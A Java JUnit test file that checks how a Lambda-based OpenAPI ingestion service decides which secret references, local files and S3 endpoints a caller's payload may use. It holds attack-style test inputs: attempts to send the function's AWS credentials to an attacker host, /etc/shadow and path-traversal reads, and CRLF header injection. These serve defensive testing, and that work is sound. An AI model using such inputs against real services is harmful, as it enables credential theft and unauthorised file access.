package dev.omrest.config;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.omrest.support.Specs;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Which secret references, files and S3 endpoints a payload can make each kind of function use (issue 15). */
class PayloadTrustTest {
    static final String CONNECTION = "source.serviceConnection.config";
    static final String JWT_FIELD = "workflowConfig.openMetadataServerConfig.securityConfig.jwtToken";
    /** The runtime's own credentials, as Lambda sets them, and the deployment's secrets. */
    static final Map<String, String> ENVIRONMENT = Map.of(
            "AWS_ACCESS_KEY_ID", "ASIA-ROLE-KEY", "AWS_SECRET_ACCESS_KEY", "role-secret-key", "AWS_SESSION_TOKEN", "role-session",
            "_HANDLER", "handler", "AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9001", "LAMBDA_TASK_ROOT", "/var/task",
            "OMREST_SECRET_SPEC_TOKEN", "spec-token-value\n", "OTHER_TOKEN", "other-value");

    final List<String> lookups = new ArrayList<>();
    final SecretStore store = new SecretStore() {
        @Override
        public String secretsManager(String secretId) {
            lookups.add("secretsmanager:" + secretId);
            return Map.of("om/jwt", "jwt-from-secrets-manager", "plain", "not-json-secret-value",
                    "json", "{\"jwt\": \"jwt-in-json\"}", "newline", "{\"jwt\": \"inner\\nline-secret\"}").get(secretId);
        }

        @Override
        public String parameter(String name) {
            lookups.add("ssm:" + name);
            return "ssm-value";
        }
    };

    PayloadReader reader(PayloadTrust trust) {
        return new PayloadReader(new SecretReferences(name -> {
            lookups.add("env:" + name);
            return ENVIRONMENT.get(name);
        }, store, trust));
    }

    static PayloadTrust caller() {
        return PayloadTrust.caller(PayloadTrust.DEFAULT_ENV_PREFIX, List.of(), null, Set.of());
    }

    static PayloadTrust deployment() {
        return PayloadTrust.deployment(PayloadTrust.DEFAULT_ENV_PREFIX);
    }

    static String payload(String specUrl) {
        return """
                {"source": {"type": "rest", "serviceName": "svc",
                   "serviceConnection": {"config": {"type": "Rest", "openAPISchemaConnection": {"openAPISchemaURL": "%s"}}},
                   "sourceConfig": {"config": {"type": "ApiMetadata"}}},
                 "sink": {"type": "metadata-rest", "config": {}},
                 "workflowConfig": {"openMetadataServerConfig": {"hostPort": "http://attacker.example:8585/api",
                   "authProvider": "openmetadata", "securityConfig": {"jwtToken": "literal-jwt"}}}}""".formatted(specUrl);
    }

    static JsonNode with(String payload, String dottedPath, Object value) {
        ObjectNode root = (ObjectNode) Specs.readJson(payload);
        String[] keys = dottedPath.split("\\.");
        ObjectNode node = root;
        for (int i = 0; i < keys.length - 1; i++) {
            node = node.has(keys[i]) ? (ObjectNode) node.get(keys[i]) : node.putObject(keys[i]);
        }
        node.set(keys[keys.length - 1], Specs.JSON.valueToTree(value));
        return root;
    }

    static JsonNode with(JsonNode payload, String dottedPath, Object value) {
        return with(payload.toString(), dottedPath, value);
    }

    List<String> problems(PayloadTrust trust, JsonNode payload) {
        return assertThrows(InvalidPayloadException.class, () -> reader(trust).ingestSettings(payload)).problems();
    }

    @Test
    void aCallerCannotHaveTheFunctionsOwnCredentialsSentAnywhere() {
        JsonNode payload = with(with(payload("http://attacker.example/spec.json"), CONNECTION + ".token", "env:AWS_SECRET_ACCESS_KEY"),
                CONNECTION + ".headers", new java.util.TreeMap<>(Map.of("X-K", "env:AWS_ACCESS_KEY_ID", "X-S", "env:AWS_SESSION_TOKEN")));
        List<String> refused = List.of(
                CONNECTION + ".token is a secret reference (env:…), which this function does not resolve (the deployment has not allowed it for functions callers reach over HTTP)",
                CONNECTION + ".headers.X-K is a secret reference (env:…), which this function does not resolve (the deployment has not allowed it for functions callers reach over HTTP)",
                CONNECTION + ".headers.X-S is a secret reference (env:…), which this function does not resolve (the deployment has not allowed it for functions callers reach over HTTP)");
        assertEquals(refused, problems(caller(), payload));
        assertEquals(List.of(), lookups, "nothing was even looked up");

        // a deployment-triggered function resolves references, but never the runtime's own variables
        assertEquals(List.of(
                CONNECTION + ".token is an env: reference that names one of the runtime's own variables (AWS_…), which are never readable",
                CONNECTION + ".headers.X-K is an env: reference that names one of the runtime's own variables (AWS_…), which are never readable",
                CONNECTION + ".headers.X-S is an env: reference that names one of the runtime's own variables (AWS_…), which are never readable"),
                problems(deployment(), payload));
        assertEquals(List.of(), lookups);
        for (String runtime : List.of("_HANDLER", "AWS_LAMBDA_RUNTIME_API", "LAMBDA_TASK_ROOT", "aws_secret_access_key")) {
            assertTrue(problems(deployment(), with(payload("http://h/s.json"), CONNECTION + ".token", "env:" + runtime)).get(0)
                    .endsWith("which are never readable"), runtime);
        }
        assertEquals(List.of(CONNECTION + ".token is an env: reference that names a variable without the prefix OMREST_SECRET_ that env: references must have"),
                problems(deployment(), with(payload("http://h/s.json"), CONNECTION + ".token", "env:OTHER_TOKEN")));
        assertEquals(List.of(), lookups);
    }

    @Test
    void oauth2SecretsAndTheJwtResolveOnlyWhereTheDeploymentAllows() {
        JsonNode payload = with(with(payload("http://attacker.example/spec.json"), CONNECTION + ".oauth2",
                Map.of("tokenUrl", "http://attacker.example/token", "clientId", "c", "clientSecret", "secretsmanager:om/jwt")),
                JWT_FIELD, "ssm:/om/jwt");
        assertEquals(List.of(
                CONNECTION + ".oauth2.clientSecret is a secret reference (secretsmanager:…), which this function does not resolve (the deployment has not allowed it for functions callers reach over HTTP)",
                JWT_FIELD + " is a secret reference (ssm:…), which this function does not resolve (the deployment has not allowed it for functions callers reach over HTTP)"),
                problems(caller(), payload));
        assertEquals(List.of(), lookups);

        PayloadTrust listed = PayloadTrust.caller(PayloadTrust.DEFAULT_ENV_PREFIX, List.of("secretsmanager:om/jwt", "ssm:/om/*"), null, Set.of());
        IngestSettings settings = reader(listed).ingestSettings(payload);
        assertEquals("ssm-value", ((SinkTarget.OpenMetadata) settings.sink()).jwtToken().reveal());
        assertEquals(List.of("secretsmanager:om/jwt", "ssm:/om/jwt"), lookups);
        assertTrue(problems(listed, with(payload, JWT_FIELD, "ssm:/other")).get(0).startsWith(JWT_FIELD + " is a secret reference (ssm:…), which"));
        // a listed secret allows its JSON keys; a secret whose name only starts like a listed one is not listed
        PayloadTrust json = PayloadTrust.caller(PayloadTrust.DEFAULT_ENV_PREFIX, List.of("secretsmanager:json"), null, Set.of());
        assertEquals("jwt-in-json", ((SinkTarget.OpenMetadata) reader(json).ingestSettings(with(payload("http://h/s.json"), JWT_FIELD,
                "secretsmanager:json#jwt")).sink()).jwtToken().reveal());
        assertEquals(1, problems(json, with(payload("http://h/s.json"), JWT_FIELD, "secretsmanager:json-other#jwt")).size());
    }

    @Test
    void resolvedValuesAreTrimmedAndCheckedAndNeverQuoted() {
        JsonNode payload = with(payload("http://h/s.json"), CONNECTION + ".token", "env:OMREST_SECRET_SPEC_TOKEN");
        IngestSettings settings = reader(deployment()).ingestSettings(payload);
        assertEquals("Bearer spec-token-value", ((SpecLocation.Url) settings.spec()).access().headers().get("Authorization").reveal());

        assertEquals(List.of(JWT_FIELD + " refers to key jwt of secret plain, which is not a JSON object"),
                problems(deployment(), with(payload, JWT_FIELD, "secretsmanager:plain#jwt")));
        assertEquals("jwt-in-json", ((SinkTarget.OpenMetadata) reader(deployment())
                .ingestSettings(with(payload, JWT_FIELD, "secretsmanager:json#jwt")).sink()).jwtToken().reveal());
        List<String> inner = problems(deployment(), with(payload, JWT_FIELD, "secretsmanager:newline#jwt"));
        assertEquals(List.of(JWT_FIELD + " holds a control character (such as a line break) inside the value, which no HTTP header can carry"), inner);
        List<String> literal = problems(deployment(), with(payload, CONNECTION + ".token", "abc\r\nX-Injected: 1"));
        assertEquals(List.of(CONNECTION + ".token holds a control character (such as a line break) inside the value, which no HTTP header can carry"), literal);
        for (String problem : List.of(String.join(" ", inner), String.join(" ", literal))) {
            assertFalse(problem.contains("line-secret") || problem.contains("Injected"), problem);
        }
    }

    @Test
    void headerNamesTheClientOwnsOrCannotSendAreProblems() {
        JsonNode payload = with(payload("http://h/s.json"), CONNECTION + ".headers", Map.of("Host", "internal", "Bad Name", "x"));
        List<String> problems = problems(deployment(), payload);
        assertEquals(Set.of(CONNECTION + ".headers: the Host header is set by the HTTP client and cannot be configured",
                CONNECTION + ".headers: 'Bad Name' is not a valid HTTP header name"), Set.copyOf(problems));
        assertEquals(List.of(CONNECTION + ".apiKey.name: 'X\nY' is not a valid HTTP header name".replace("\n", "?")),
                problems(deployment(), with(payload("http://h/s.json"), CONNECTION + ".apiKey", Map.of("name", "X\nY", "value", "v"))));
    }

    @Test
    void credentialsInUrlsAreNeitherEchoedNorStored() {
        IngestSettings settings = reader(deployment()).ingestSettings(with(
                payload("http://reader:pa55w0rd@specs.example:8080/v1/spec.json?token=qs-secret"), CONNECTION + ".docURL",
                "https://doc-user:doc-pass@docs.example/api"));
        SpecLocation.Url location = (SpecLocation.Url) settings.spec();
        assertEquals("http://specs.example:8080/v1/spec.json?token=qs-secret", location.uri().toString());
        assertEquals("http://specs.example:8080/v1/spec.json?token=qs-secret", location.fallbackUrl());
        assertEquals("Basic " + Base64.getEncoder().encodeToString("reader:pa55w0rd".getBytes()),
                location.access().headers().get("Authorization").reveal());
        assertEquals("http://specs.example:8080/v1/spec.json?token=qs-secret",
                settings.serviceConnection().path("openAPISchemaConnection").path("openAPISchemaURL").asText());
        assertEquals("https://docs.example/api", settings.serviceConnection().path("docURL").asText());
        assertEquals("https://docs.example/api", settings.docUrl());
        assertFalse(settings.serviceConnection().toString().contains("pa55w0rd"));

        List<String> problems = problems(deployment(), with(payload("ftp://u:hunter2@h/x?token=qs-secret"), JWT_FIELD, "j"));
        assertEquals(List.of(CONNECTION + ".openAPISchemaConnection.openAPISchemaURL must be an http(s) URL, not 'ftp://h/x?…'"), problems);
        List<String> hostPort = problems(deployment(), with(payload("http://h/s.json"),
                "workflowConfig.openMetadataServerConfig.hostPort", "tcp://admin:hunter2@om:8585/api?k=v"));
        assertEquals(List.of("workflowConfig.openMetadataServerConfig.hostPort must be an http(s) URL such as http://localhost:8585/api, not 'tcp://om:8585/api?…'"),
                hostPort);
    }

    @Test
    void callersReadNoLocalFileUnlessTheDeploymentNamesADirectory(@TempDir Path dir) throws IOException {
        Path allowed = Files.createDirectories(dir.resolve("specs"));
        Files.writeString(allowed.resolve("a.yaml"), "openapi: 3.0.0");
        Path outside = Files.writeString(dir.resolve("secret.txt"), "not yours");
        Files.createSymbolicLink(allowed.resolve("link.yaml"), outside);
        String file = payload("http://h/s.json").replace("\"openAPISchemaURL\"", "\"openAPISchemaFilePath\"");
        String field = CONNECTION + ".openAPISchemaConnection.openAPISchemaFilePath";

        assertEquals(List.of(field + ": this function reads no local file (the deployment allows none)"),
                problems(caller(), with(file, field, "/etc/shadow")));
        PayloadTrust underSpecs = PayloadTrust.caller(PayloadTrust.DEFAULT_ENV_PREFIX, List.of(), allowed, Set.of());
        String outsideProblem = field + ": only files under the directory the deployment allows may be read";
        for (String path : List.of("/etc/shadow", allowed + "/../secret.txt", allowed + "/link.yaml", allowed + "/missing/../../secret.txt")) {
            assertEquals(List.of(outsideProblem), problems(underSpecs, with(file, field, path)), path);
        }
        // the same words whether the file exists or not
        assertEquals(List.of(outsideProblem), problems(underSpecs, with(file, field, "/no/such/file")));
        IngestSettings settings = reader(underSpecs).ingestSettings(with(file, field, allowed + "/a.yaml"));
        assertEquals(allowed.resolve("a.yaml").toRealPath(), ((SpecLocation.File) settings.spec()).path());
        assertEquals(List.of(CONNECTION + ".sslConfig.certificatePath: this function reads no local file (the deployment allows none)"),
                problems(caller(), with(with(payload("https://h/s.json"), CONNECTION + ".verifySSL", "validate"),
                        CONNECTION + ".sslConfig", Map.of("certificatePath", "/etc/ssl/private/key.pem"))));
        // deployment-triggered functions read the files their payloads name
        assertEquals(Path.of("/etc/shadow"), ((SpecLocation.File) reader(deployment()).ingestSettings(with(file, field, "/etc/shadow")).spec()).path());
    }

    @Test
    void callersUseNoCustomS3EndpointUnlessListed() {
        String s3 = payload("http://h/s.json").replace("\"openAPISchemaURL\": \"http://h/s.json\"",
                "\"openAPISchemaS3URL\": \"https://bucket.s3.eu-west-1.amazonaws.com/spec.yaml\", \"awsCredentials\": {\"endPointURL\": \"http://attacker.example:9000\"}");
        assertEquals(List.of(CONNECTION + ".openAPISchemaConnection.awsCredentials.endPointURL is not an S3 endpoint the deployment allows this function to use"),
                problems(caller(), Specs.readJson(s3)));
        PayloadTrust listed = PayloadTrust.caller(PayloadTrust.DEFAULT_ENV_PREFIX, List.of(), null, Set.of("http://attacker.example:9000"));
        assertEquals("http://attacker.example:9000", ((SpecLocation.S3) reader(listed).ingestSettings(Specs.readJson(s3)).spec()).endpoint().toString());
        assertEquals("http://attacker.example:9000", ((SpecLocation.S3) reader(deployment()).ingestSettings(Specs.readJson(s3)).spec()).endpoint().toString());
    }

    /** A connection OpenMetadata's users wrote is not read from S3 with the function's role: only with its own keys. */
    @Test
    void connectionsFromOpenMetadataBringTheirOwnS3Keys() {
        String s3 = payload("http://h/s.json").replace("\"openAPISchemaURL\": \"http://h/s.json\"",
                "\"openAPISchemaS3URL\": \"https://bucket.s3.eu-west-1.amazonaws.com/spec.yaml\"");
        assertEquals(List.of(CONNECTION + ".openAPISchemaConnection.awsCredentials must set awsAccessKeyId and "
                + "awsSecretAccessKey: a connection from OpenMetadata does not get this function's own role to read S3 with"),
                problems(caller().withoutRoleForS3(), Specs.readJson(s3)));
        // the same spec with keys of its own, and the role for the deployment's and callers' payloads, as before
        String keyed = s3.replace("spec.yaml\"", "spec.yaml\", \"awsCredentials\": {\"awsAccessKeyId\": \"AKIAEXAMPLE\", "
                + "\"awsSecretAccessKey\": \"example-secret\"}");
        assertEquals("AKIAEXAMPLE", ((SpecLocation.S3) reader(caller().withoutRoleForS3()).ingestSettings(Specs.readJson(keyed))
                .spec()).accessKeyId());
        assertEquals(null, ((SpecLocation.S3) reader(caller()).ingestSettings(Specs.readJson(s3)).spec()).accessKeyId());
        assertEquals(null, ((SpecLocation.S3) reader(deployment()).ingestSettings(Specs.readJson(s3)).spec()).accessKeyId());
    }

    @Test
    void urlTextIsShownWithoutUserInfoWhereverItStands() {
        assertEquals("host/x", Redact.text("http:u:hunter2@host/x"));
        assertEquals("http://h/x?…", Redact.text("\u00a0http://u:hunter2@h/x?token=t"));
        assertEquals("https://h/common.yaml?…#/components/schemas/Pet",
                Redact.reference("https://u:hunter2@h/common.yaml?token=t#/components/schemas/Pet"));
        assertEquals("common.yaml#/Pet", Redact.reference("common.yaml#/Pet"));
    }
}
